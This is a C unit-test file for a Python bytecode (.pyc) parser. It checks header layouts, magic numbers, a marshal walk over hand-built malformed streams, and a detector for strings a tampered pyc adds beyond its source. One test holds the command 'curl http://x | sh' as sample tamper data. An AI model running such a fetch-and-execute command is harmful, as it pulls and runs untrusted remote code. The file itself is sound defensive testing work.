/*
 * Unit tests for python/pyc: header layouts and magic numbers, the
 * marshal walk on hand-built streams (including hostile ones), and the
 * source comparison. tests/pyc/run checks the same code against pycs that
 * real interpreters write.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "python/pyc.h"
#include "python/version.h"

/* A growable byte string for building marshal streams. */
struct bytes {
	uint8_t data[1 << 16];
	size_t len;
};

static void
put(struct bytes *b, const void *p, size_t n)
{
	assert_true(n <= sizeof(b->data) - b->len);
	memcpy(b->data + b->len, p, n);
	b->len += n;
}

static void
put_u8(struct bytes *b, uint8_t v)
{
	put(b, &v, 1);
}

static void
put_u32(struct bytes *b, uint32_t v)
{
	uint8_t le[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24) };

	put(b, le, 4);
}

static void
put_header(struct bytes *b, uint16_t magic, uint32_t flags)
{
	put_u8(b, (uint8_t)magic);
	put_u8(b, (uint8_t)(magic >> 8));
	put(b, "\r\n", 2);
	put_u32(b, flags);
	put_u32(b, 0x11223344);
	put_u32(b, 0x55667788);
}

static void
put_short_ascii(struct bytes *b, const char *s, uint8_t flag)
{
	put_u8(b, (uint8_t)('z' | flag));
	put_u8(b, (uint8_t)strlen(s));
	put(b, s, strlen(s));
}

static void
put_empty_bytes(struct bytes *b)
{
	put_u8(b, 's');
	put_u32(b, 0);
}

/*
 * Writes a 3.11+ code object whose consts and names are the given short
 * ASCII strings; extra_consts is raw marshal data appended to the consts.
 */
static void
put_code(struct bytes *b, const char *const *consts, size_t nconsts,
	 const struct bytes *extra_consts, const char *const *names, size_t nnames,
	 const char *filename)
{
	size_t i;

	put_u8(b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(b, 0);
	put_empty_bytes(b); /* co_code */
	put_u8(b, ')');
	put_u8(b, (uint8_t)(nconsts + (extra_consts ? 1 : 0)));
	for (i = 0; i < nconsts; i++)
		put_short_ascii(b, consts[i], 0);
	if (extra_consts)
		put(b, extra_consts->data, extra_consts->len);
	put_u8(b, ')');
	put_u8(b, (uint8_t)nnames);
	for (i = 0; i < nnames; i++)
		put_short_ascii(b, names[i], 0);
	put_u8(b, ')'); /* co_localsplusnames */
	put_u8(b, 0);
	put_empty_bytes(b); /* co_localspluskinds */
	put_short_ascii(b, filename, 0);
	put_short_ascii(b, "<module>", 0);
	put_short_ascii(b, "<module>", 0);
	put_u32(b, 1);
	put_empty_bytes(b); /* co_linetable */
	put_empty_bytes(b); /* co_exceptiontable */
}

static bool
has_string(const struct pyc_strings *s, const char *want)
{
	size_t i;

	for (i = 0; i < s->count; i++) {
		if (s->lens[i] == strlen(want) && memcmp(s->items[i], want, s->lens[i]) == 0)
			return true;
	}
	return false;
}

static int
collect(const struct bytes *b, struct pyc_strings *out)
{
	struct pyc_info info;
	int rc = pyc_parse_header(b->data, b->len, &info);

	assert_int_equal(rc, 0);
	return pyc_collect_strings(b->data, b->len, &info, out);
}

static void
test_header_timestamp(void **state)
{
	static struct bytes b;
	struct pyc_info info;

	(void)state;
	b.len = 0;
	put_header(&b, 3571, 0);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), 0);
	assert_int_equal(info.magic & 0xFFFF, 3571);
	assert_true(info.magic_known);
	assert_true(info.ver_lo <= PYVER(3, 13, 0));
	assert_true(info.ver_hi >= PYVER(3, 13, 9));
	assert_true(info.ver_hi < PYVER_PRE(3, 14, 0, 0xA, 0));
	assert_int_equal(info.validation, PYC_TIMESTAMP);
	assert_int_equal(info.source_mtime, 0x11223344);
	assert_int_equal(info.source_size, 0x55667788);
	assert_true(info.has_source_size);
	assert_int_equal(info.header_len, 16);
}

static void
test_header_hash_modes(void **state)
{
	static const uint8_t hash[8] = { 0x44, 0x33, 0x22, 0x11, 0x88, 0x77, 0x66, 0x55 };
	static struct bytes b;
	struct pyc_info info;

	(void)state;
	b.len = 0;
	put_header(&b, 3531, 1);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), 0);
	assert_int_equal(info.validation, PYC_HASH_UNCHECKED);
	assert_memory_equal(info.source_hash, hash, 8);
	assert_false(info.has_source_size);

	b.len = 0;
	put_header(&b, 3531, 3);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), 0);
	assert_int_equal(info.validation, PYC_HASH_CHECKED);

	/* check_source without the hash bit is still a timestamp pyc. */
	b.len = 0;
	put_header(&b, 3531, 2);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), 0);
	assert_int_equal(info.validation, PYC_TIMESTAMP);

	b.len = 0;
	put_header(&b, 3531, 4);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), -EINVAL);
}

static void
test_header_old_layouts(void **state)
{
	static const uint8_t py27[] = { 0x03, 0xF3, '\r', '\n', 1, 0, 0, 0 };
	static const uint8_t py36[] = { 0x33, 0x0D, '\r', '\n', 1, 0, 0, 0, 9, 0, 0, 0 };
	struct pyc_info info;

	(void)state;
	assert_int_equal(pyc_parse_header(py27, sizeof(py27), &info), 0);
	assert_int_equal(info.header_len, 8);
	assert_int_equal(info.source_mtime, 1);
	assert_false(info.has_source_size);
	assert_true(info.magic_known);
	assert_true(info.ver_lo <= PYVER(2, 7, 18) && PYVER(2, 7, 18) <= info.ver_hi);

	assert_int_equal(pyc_parse_header(py36, sizeof(py36), &info), 0);
	assert_int_equal(info.magic & 0xFFFF, 3379);
	assert_int_equal(info.header_len, 12);
	assert_int_equal(info.source_size, 9);
	assert_true(info.has_source_size);
	assert_true(info.ver_lo <= PYVER(3, 6, 15) && PYVER(3, 6, 15) <= info.ver_hi);
	assert_true(info.ver_hi < PYVER_PRE(3, 7, 0, 0xA, 0));
}

static void
test_header_truncated(void **state)
{
	static struct bytes b;
	struct pyc_info info;
	size_t len;

	(void)state;
	b.len = 0;
	put_header(&b, 3495, 0);
	for (len = 0; len < 16; len++)
		assert_int_equal(pyc_parse_header(b.data, len, &info), -EINVAL);
	assert_int_equal(pyc_parse_header(b.data, 16, &info), 0);
}

struct release_case {
	uint16_t magic;
	uint32_t release;
};

static void
test_magic_releases(void **state)
{
	/* Final releases and the magic each writes (importlib.util.MAGIC_NUMBER). */
	static const struct release_case cases[] = {
		{ 62211, PYVER(2, 7, 18) }, { 3379, PYVER(3, 6, 15) },
		{ 3394, PYVER(3, 7, 16) },  { 3413, PYVER(3, 8, 18) },
		{ 3425, PYVER(3, 9, 18) },  { 3439, PYVER(3, 10, 13) },
		{ 3495, PYVER(3, 11, 2) },  { 3495, PYVER(3, 11, 7) },
		{ 3531, PYVER(3, 12, 1) },  { 3571, PYVER(3, 13, 0) },
		{ 3627, PYVER(3, 14, 0) },
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint32_t lo, hi;

		assert_true(pyc_magic_lookup(cases[i].magic, &lo, &hi));
		if (lo > cases[i].release || hi < cases[i].release)
			fail_msg("magic %u: [%08x, %08x] lacks %08x", cases[i].magic,
				 (unsigned)lo, (unsigned)hi, (unsigned)cases[i].release);
	}
}

static void
test_unknown_magic(void **state)
{
	static const uint8_t no_crlf[16] = { 0x33, 0x0D, 'x', 'y' };
	static const uint8_t not_python[16] = { 0x10, 0x27, '\r', '\n' }; /* 10000 */
	static struct bytes b;
	struct pyc_info info;

	(void)state;
	assert_int_equal(pyc_parse_header(no_crlf, sizeof(no_crlf), &info), -EINVAL);
	assert_int_equal(pyc_parse_header(not_python, sizeof(not_python), &info), -EINVAL);

	/* A future 3.x magic: PEP 552 layout, a range past the newest known one. */
	b.len = 0;
	put_header(&b, 3700, 0);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), 0);
	assert_false(info.magic_known);
	assert_true(info.ver_lo >= PYVER_PRE(3, 15, 0, 0xA, 0));
	assert_int_equal(info.ver_hi, PYVER_ANY_HI);

	/* An unlisted 3.12 development magic lies between its neighbours. */
	b.len = 0;
	put_header(&b, 3540, 0);
	assert_int_equal(pyc_parse_header(b.data, b.len, &info), 0);
	assert_false(info.magic_known);
	assert_true(info.ver_lo <= PYVER(3, 12, 0) || info.ver_lo <= PYVER_PRE(3, 13, 0, 0xA, 1));
	assert_true(info.ver_hi <= PYVER_PRE(3, 13, 0, 0xA, 1));
}

static void
test_collect_names_and_consts(void **state)
{
	static const char *const consts[] = { "x", "hello" };
	static const char *const names[] = { "os", "system", "os" };
	static struct bytes b;
	struct pyc_strings s;

	(void)state;
	b.len = 0;
	put_header(&b, 3571, 0);
	put_code(&b, consts, 2, NULL, names, 3, "/tmp/secret_filename.py");
	assert_int_equal(collect(&b, &s), 0);
	assert_true(has_string(&s, "x"));
	assert_true(has_string(&s, "hello"));
	assert_true(has_string(&s, "os"));
	assert_true(has_string(&s, "system"));
	assert_true(has_string(&s, "<module>"));
	assert_false(has_string(&s, "/tmp/secret_filename.py"));
	assert_int_equal(s.count, 5); /* "os" once */
	assert_false(s.truncated);
	pyc_strings_free(&s);
}

static void
test_ref_to_filename_string(void **state)
{
	static struct bytes b;
	struct pyc_strings s;
	size_t i;

	(void)state;
	/*
	 * The filename string is flagged as ref 0 and then named again from
	 * co_consts; the second use must be collected.
	 */
	b.len = 0;
	put_header(&b, 3571, 0);
	put_u8(&b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_empty_bytes(&b);
	put_u8(&b, ')');
	put_u8(&b, 0);
	put_u8(&b, ')');
	put_u8(&b, 0);
	put_u8(&b, ')');
	put_u8(&b, 0);
	put_empty_bytes(&b);
	put_short_ascii(&b, "payload", 0x80); /* co_filename, ref 0 */
	put_u8(&b, 'r');                       /* co_name refers to it */
	put_u32(&b, 0);
	put_short_ascii(&b, "<module>", 0);
	put_u32(&b, 1);
	put_empty_bytes(&b);
	put_empty_bytes(&b);
	assert_int_equal(collect(&b, &s), 0);
	assert_true(has_string(&s, "payload"));
	pyc_strings_free(&s);
}

static void
test_nested_code_and_containers(void **state)
{
	static struct bytes b, inner, extra;
	static const char *const inner_names[] = { "subprocess" };
	static const char *const names[] = { "f" };
	struct pyc_strings s;

	(void)state;
	inner.len = 0;
	put_code(&inner, NULL, 0, NULL, inner_names, 1, "f.py");

	extra.len = 0;
	put_u8(&extra, '>');          /* frozenset of two strings */
	put_u32(&extra, 2);
	put_short_ascii(&extra, "alpha", 0);
	put_short_ascii(&extra, "beta", 0);
	put_u8(&extra, '{');          /* a dict, ended by TYPE_NULL */
	put_short_ascii(&extra, "key", 0);
	put_u8(&extra, 'i');
	put_u32(&extra, 7);
	put_u8(&extra, '0');
	put_u8(&extra, 'l');          /* a long: two base-2**15 digits */
	put_u32(&extra, 2);
	put_u8(&extra, 1);
	put_u8(&extra, 0);
	put_u8(&extra, 1);
	put_u8(&extra, 0);
	put_u8(&extra, 'g');          /* a binary float */
	put(&extra, "\0\0\0\0\0\0\xf0\x3f", 8);
	put_u8(&extra, ':');          /* a 3.14 slice */
	put_u8(&extra, 'N');
	put_u8(&extra, 'N');
	put_u8(&extra, 'N');
	put(&extra, inner.data, inner.len);

	b.len = 0;
	put_header(&b, 3627, 0);
	/* Seven consts in all: put_code counts extra_consts as one, so patch the count. */
	put_code(&b, NULL, 0, &extra, names, 1, "m.py");
	b.data[16 + 1 + 20 + 5 + 1] = 6;
	assert_int_equal(collect(&b, &s), 0);
	assert_true(has_string(&s, "alpha"));
	assert_true(has_string(&s, "beta"));
	assert_true(has_string(&s, "key"));
	assert_true(has_string(&s, "subprocess"));
	assert_false(has_string(&s, "f.py"));
	pyc_strings_free(&s);
}

static void
test_deep_nesting(void **state)
{
	static struct bytes b;
	struct pyc_strings s;
	size_t i;

	(void)state;
	b.len = 0;
	put_header(&b, 3571, 0);
	put_u8(&b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_empty_bytes(&b);
	for (i = 0; i < 10000; i++) {
		put_u8(&b, ')');
		put_u8(&b, 1);
	}
	put_u8(&b, 'N');
	assert_int_equal(collect(&b, &s), -E2BIG);
	assert_int_equal(s.count, 0);
	assert_null(s.items);
}

static void
test_huge_declared_lengths(void **state)
{
	static const uint8_t types[] = { '(', '[', '<', '>', 's', 'u', 'a', 't' };
	static struct bytes b;
	struct pyc_strings s;
	size_t i, t;

	(void)state;
	for (t = 0; t < sizeof(types); t++) {
		b.len = 0;
		put_header(&b, 3571, 0);
		put_u8(&b, 'c');
		for (i = 0; i < 5; i++)
			put_u32(&b, 0);
		put_empty_bytes(&b);
		put_u8(&b, types[t]);
		put_u32(&b, 0x7FFFFFFF);
		put_u8(&b, 'N');
		assert_int_equal(collect(&b, &s), -EINVAL);

		b.len -= 5;
		put_u32(&b, 0xFFFFFFFF); /* negative */
		put_u8(&b, 'N');
		assert_int_equal(collect(&b, &s), -EINVAL);
	}

	/* A long whose digit count overflows when negated. */
	b.len = 0;
	put_header(&b, 3571, 0);
	put_u8(&b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_empty_bytes(&b);
	put_u8(&b, 'l');
	put_u32(&b, 0x80000000);
	assert_int_equal(collect(&b, &s), -EINVAL);
}

static void
test_malformed_streams(void **state)
{
	static struct bytes good;
	static const char *const names[] = { "a" };
	struct pyc_strings s;
	struct pyc_info info;
	size_t len;

	(void)state;
	good.len = 0;
	put_header(&good, 3571, 0);
	put_code(&good, NULL, 0, NULL, names, 1, "a.py");
	assert_int_equal(collect(&good, &s), 0);
	pyc_strings_free(&s);

	/* Every strict prefix of a valid stream is truncated. */
	assert_int_equal(pyc_parse_header(good.data, good.len, &info), 0);
	for (len = 16; len < good.len; len++) {
		assert_int_equal(pyc_collect_strings(good.data, len, &info, &s), -EINVAL);
		assert_int_equal(s.count, 0);
	}

	/* The top object must be a code object. */
	good.data[16] = 'N';
	assert_int_equal(pyc_collect_strings(good.data, good.len, &info, &s), -EINVAL);
	good.data[16] = '?';
	assert_int_equal(pyc_collect_strings(good.data, good.len, &info, &s), -EINVAL);
}

static void
test_bad_refs_and_nulls(void **state)
{
	static struct bytes b;
	struct pyc_strings s;
	size_t i;

	(void)state;
	/* A reference to an index never defined. */
	b.len = 0;
	put_header(&b, 3571, 0);
	put_u8(&b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_u8(&b, 'r');
	put_u32(&b, 5);
	assert_int_equal(collect(&b, &s), -EINVAL);

	/* TYPE_NULL inside a tuple. */
	b.len = 0;
	put_header(&b, 3571, 0);
	put_u8(&b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_empty_bytes(&b);
	put_u8(&b, ')');
	put_u8(&b, 1);
	put_u8(&b, '0');
	assert_int_equal(collect(&b, &s), -EINVAL);

	/* A long digit out of range. */
	b.len = 0;
	put_header(&b, 3571, 0);
	put_u8(&b, 'c');
	for (i = 0; i < 5; i++)
		put_u32(&b, 0);
	put_u8(&b, 'l');
	put_u32(&b, 1);
	put_u8(&b, 0xFF);
	put_u8(&b, 0xFF);
	assert_int_equal(collect(&b, &s), -EINVAL);
}

static void
test_python2_stream(void **state)
{
	static struct bytes b;
	struct pyc_strings s;
	size_t i;

	(void)state;
	b.len = 0;
	put(&b, "\x03\xf3\r\n\0\0\0\0", 8);
	put_u8(&b, 'c');
	for (i = 0; i < 4; i++)
		put_u32(&b, 0);
	put_u8(&b, 's');                  /* co_code: a str in 2.x, not collected */
	put_u32(&b, 3);
	put(&b, "d\0\0", 3);
	put_u8(&b, '(');                  /* co_consts */
	put_u32(&b, 1);
	put_u8(&b, 's');
	put_u32(&b, 4);
	put(&b, "echo", 4);
	put_u8(&b, '(');                  /* co_names: an interned str, then a stringref to it */
	put_u32(&b, 2);
	put_u8(&b, 't');
	put_u32(&b, 6);
	put(&b, "system", 6);
	put_u8(&b, 'R');
	put_u32(&b, 0);
	for (i = 0; i < 3; i++) {         /* varnames, freevars, cellvars */
		put_u8(&b, '(');
		put_u32(&b, 0);
	}
	put_u8(&b, 's');                  /* co_filename */
	put_u32(&b, 4);
	put(&b, "x.py", 4);
	put_u8(&b, 't');                  /* co_name */
	put_u32(&b, 8);
	put(&b, "<module>", 8);
	put_u32(&b, 1);
	put_u8(&b, 's');                  /* co_lnotab */
	put_u32(&b, 0);

	assert_int_equal(collect(&b, &s), 0);
	assert_true(has_string(&s, "echo"));
	assert_true(has_string(&s, "system"));
	assert_false(has_string(&s, "d"));
	assert_false(has_string(&s, "x.py"));
	pyc_strings_free(&s);

	/* FLAG_REF does not exist in 2.x streams. */
	b.data[8] = 'c' | 0x80;
	assert_int_equal(collect(&b, &s), -EINVAL);
}

static struct pyc_strings
strings_of(const char *const *items, size_t n)
{
	struct pyc_strings s;
	size_t i;

	s.items = calloc(n, sizeof(*s.items));
	s.lens = calloc(n, sizeof(*s.lens));
	assert_non_null(s.items);
	assert_non_null(s.lens);
	for (i = 0; i < n; i++) {
		s.items[i] = strdup(items[i]);
		assert_non_null(s.items[i]);
		s.lens[i] = strlen(items[i]);
	}
	s.count = n;
	s.truncated = false;
	return s;
}

static void
test_missing_from_source(void **state)
{
	static const char source[] =
		"import sys\n"
		"class Box:\n"
		"    \"\"\"A box.\n"
		"\n"
		"        Indented text the 3.13 compiler dedents.\n"
		"    \"\"\"\n"
		"    def __init__(self):\n"
		"        self.__hidden = 'a\\tb'\n"
		"        msg = (\"first part \"\n"
		"               # a comment between the parts\n"
		"               \"second part\")\n"
		"        line = '-' * 3 + 'ab' * 40\n"
		"        def inner(): pass\n"
		"        print(msg, line, sys.argv)\n";
	static const char *const collected[] = {
		"sys", "Box", "A box.\n\nIndented text the 3.13 compiler dedents.\n",
		"__init__", "_Box__hidden", "a\tb", "first part second part",
		"abababababababababababababababababababababababababababababababababababababababab",
		"Box.__init__.<locals>.inner", "<module>", ".0", "__qualname__", "",
		"AssertionError", "return", "print",
		/* What a tampered pyc adds: */
		"os", "system", "curl http://x | sh",
	};
	struct pyc_strings s = strings_of(collected, sizeof(collected) / sizeof(collected[0]));
	struct pyc_strings missing;

	(void)state;
	assert_int_equal(pyc_strings_missing_from_source(&s, (const uint8_t *)source,
							 sizeof(source) - 1, &missing), 0);
	assert_int_equal(missing.count, 3);
	assert_string_equal(missing.items[0], "os");
	assert_string_equal(missing.items[1], "system");
	assert_string_equal(missing.items[2], "curl http://x | sh");
	assert_int_equal(missing.lens[2], strlen("curl http://x | sh"));
	pyc_strings_free(&missing);

	/*
	 * Against an empty source, only the compiler-made strings are skipped:
	 * "<module>", ".0", "__qualname__", "", "AssertionError" and "return".
	 * "__init__" is a name the source chose, so it counts as missing.
	 */
	assert_int_equal(pyc_strings_missing_from_source(&s, NULL, 0, &missing), 0);
	assert_int_equal(missing.count, s.count - 6);
	pyc_strings_free(&missing);
	pyc_strings_free(&s);
}

static void
test_names_need_whole_words(void **state)
{
	/* Names hidden inside longer words, or behind a dotted string, do not count. */
	static const char source[] = "filesystem_hosts = 1\nlabel = '.exec'\n";
	static const char *const collected[] = { "system", "exec", "__builtins__", ".exec", "filesystem_hosts" };
	struct pyc_strings s = strings_of(collected, sizeof(collected) / sizeof(collected[0]));
	struct pyc_strings missing;

	(void)state;
	assert_int_equal(pyc_strings_missing_from_source(&s, (const uint8_t *)source,
							 sizeof(source) - 1, &missing), 0);
	assert_int_equal(missing.count, 2);
	assert_string_equal(missing.items[0], "system");
	assert_string_equal(missing.items[1], "__builtins__");
	pyc_strings_free(&missing);
	pyc_strings_free(&s);
}

static void
test_mangled_and_continued_names(void **state)
{
	static const char source[] =
		"class Base_:\n    def f(self):\n        self.__hidden = 1\n"
		"class My__Thing:\n    def g(self):\n        self.__hidden = 2\n"
		"s = 'hello\\\nworld'\n";
	static const char *const collected[] = { "_Base___hidden", "_My__Thing__hidden", "helloworld" };
	struct pyc_strings s = strings_of(collected, sizeof(collected) / sizeof(collected[0]));
	struct pyc_strings missing;

	(void)state;
	assert_int_equal(pyc_strings_missing_from_source(&s, (const uint8_t *)source,
							 sizeof(source) - 1, &missing), 0);
	assert_int_equal(missing.count, 0);
	pyc_strings_free(&missing);
	pyc_strings_free(&s);
}

static void
test_strings_with_nul(void **state)
{
	static const char source[] = "data = b'\\x00abc'\n";
	struct pyc_strings s = strings_of((const char *const[]){ "x" }, 1), missing;

	(void)state;
	free(s.items[0]);
	s.items[0] = malloc(5);
	assert_non_null(s.items[0]);
	memcpy(s.items[0], "\0abc", 5);
	s.lens[0] = 4;
	/* Not a substring, but its one word "abc" is. */
	assert_int_equal(pyc_strings_missing_from_source(&s, (const uint8_t *)source,
							 sizeof(source) - 1, &missing), 0);
	assert_int_equal(missing.count, 0);
	pyc_strings_free(&missing);

	memcpy(s.items[0], "\0zzq", 5);
	assert_int_equal(pyc_strings_missing_from_source(&s, (const uint8_t *)source,
							 sizeof(source) - 1, &missing), 0);
	assert_int_equal(missing.count, 1);
	assert_int_equal(missing.lens[0], 4);
	assert_memory_equal(missing.items[0], "\0zzq", 4);
	pyc_strings_free(&missing);
	pyc_strings_free(&s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_header_timestamp),
		cmocka_unit_test(test_header_hash_modes),
		cmocka_unit_test(test_header_old_layouts),
		cmocka_unit_test(test_header_truncated),
		cmocka_unit_test(test_magic_releases),
		cmocka_unit_test(test_unknown_magic),
		cmocka_unit_test(test_collect_names_and_consts),
		cmocka_unit_test(test_ref_to_filename_string),
		cmocka_unit_test(test_nested_code_and_containers),
		cmocka_unit_test(test_deep_nesting),
		cmocka_unit_test(test_huge_declared_lengths),
		cmocka_unit_test(test_malformed_streams),
		cmocka_unit_test(test_bad_refs_and_nulls),
		cmocka_unit_test(test_python2_stream),
		cmocka_unit_test(test_missing_from_source),
		cmocka_unit_test(test_names_need_whole_words),
		cmocka_unit_test(test_mangled_and_continued_names),
		cmocka_unit_test(test_strings_with_nul),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
